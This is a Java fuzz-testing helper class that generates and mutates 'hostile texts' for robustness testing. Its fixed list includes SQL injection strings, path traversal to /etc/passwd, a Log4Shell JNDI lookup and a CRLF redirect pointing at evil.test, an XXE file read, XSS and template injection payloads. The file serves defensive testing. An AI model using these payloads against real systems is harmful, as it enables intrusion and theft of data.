package dev.clade.local.fuzz;

import java.util.List;
import java.util.random.RandomGenerator;

/** Texts that have broken programs before. */
final class HostileTexts {
  private static final List<String> FIXED =
      List.of(
          "",
          " ",
          "\u0000",
          "a\u0000b",
          "models/a\u0000b",
          "\r\n",
          "x\r\nSet-Cookie: a=b",
          "x%0d%0aLocation:%20//evil.test",
          "\t\u000b\u0007\u001b[31m",
          "\u202e\u2066txet\u2069",
          "\ufeffmodels/gpt2",
          "models/\u202egpt2",
          "\ud83d\ude00",
          "models/\ud83d\ude00/\ud835\udd4f",
          "\ud800",
          "\udfff\ud800",
          "\uffff",
          "e\u0301\u0301\u0301",
          "\u0130\u0131\ufb03\u00df",
          "'",
          "\"",
          "' OR '1'='1",
          "'; DROP TABLE artifact; --",
          "1; SELECT pg_sleep(20)",
          "\\'; COPY x TO PROGRAM 'id'",
          "%' ESCAPE '\\",
          "$1",
          "?",
          ":name",
          "{\"$gt\":\"\"}",
          "{\"a\":[[[[[[",
          "[]",
          "null",
          "undefined",
          "true",
          "NaN",
          "-Infinity",
          "../../../../etc/passwd",
          "uploads/../../../etc/passwd",
          "models/../../x",
          "models//",
          "models/",
          "/",
          "//",
          "models/a/b/c",
          "..%2f..%2f",
          "..\\..\\",
          "file:///etc/passwd",
          "http://127.0.0.1:1/",
          "jar:file:!/",
          "%s%n%x%p",
          "%1$s %99$d",
          "{0} {}",
          "${jndi:ldap://evil.test/a}",
          "${7*7}",
          "#{7*7}",
          "<script>alert(1)</script>",
          "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
          "]]>",
          "=1+1",
          "(((((((((((((((((((((((((((((a+)+)+)+$",
          "\\",
          "\\u0000",
          "*",
          "[a-",
          "00000000-0000-0000-0000-000000000000",
          "ffffffff-ffff-4fff-bfff-ffffffffffff",
          "valuations/00000000-0000-4000-8000-000000000000",
          "imports/ffffffff-ffff-4fff-bfff-ffffffffffff",
          "reports/" + "0".repeat(64),
          "operations/1",
          "0",
          "-1",
          "1e309",
          "9223372036854775808",
          "PT-1S",
          "P999999999D",
          "2147483648",
          "AAAAAAAAAAA",
          "AAAAAAAAAAAAAAAA",
          "____________",
          "====");

  private static final int[] LENGTHS = {99, 100, 101, 200, 201, 255, 256, 1_000, 4_096, 65_536};

  /** What long texts are made of. */
  private static final List<String> PIECES =
      List.of("a", "models/a", "%", "\u0000", "\ud83d\ude00", "(", "../", "\u0301");

  private HostileTexts() {}

  /** Draws a text. */
  static String draw(RandomGenerator random) {
    return switch (random.nextInt(10)) {
      case 0 -> characters(random, 1 + random.nextInt(40));
      case 1 -> repeated(random);
      default -> FIXED.get(random.nextInt(FIXED.size()));
    };
  }

  /** Changes a text a little. */
  static String change(String text, RandomGenerator random) {
    int place = random.nextInt(text.length() + 1);
    return switch (random.nextInt(6)) {
      case 0 -> text.substring(0, place);
      case 1 -> text.substring(0, place) + characters(random, 1) + text.substring(place);
      case 2 -> text + FIXED.get(random.nextInt(FIXED.size()));
      case 3 -> text.toUpperCase(java.util.Locale.ROOT);
      case 4 -> text.substring(0, place) + text.substring(Math.min(text.length(), place + 1));
      default -> text + text;
    };
  }

  private static String repeated(RandomGenerator random) {
    String piece = PIECES.get(random.nextInt(PIECES.size()));
    // The longest are rare, since they cost most.
    int length = LENGTHS[Math.min(random.nextInt(LENGTHS.length), random.nextInt(LENGTHS.length))];
    return piece.repeat(length / piece.length() + 1).substring(0, length);
  }

  private static String characters(RandomGenerator random, int count) {
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < count; i++) {
      text.appendCodePoint(
          switch (random.nextInt(3)) {
            case 0 -> random.nextInt(0x20);
            case 1 -> random.nextInt(0x20, 0x7f);
            default -> random.nextInt(Character.MAX_CODE_POINT + 1);
          });
    }
    return text.toString();
  }
}
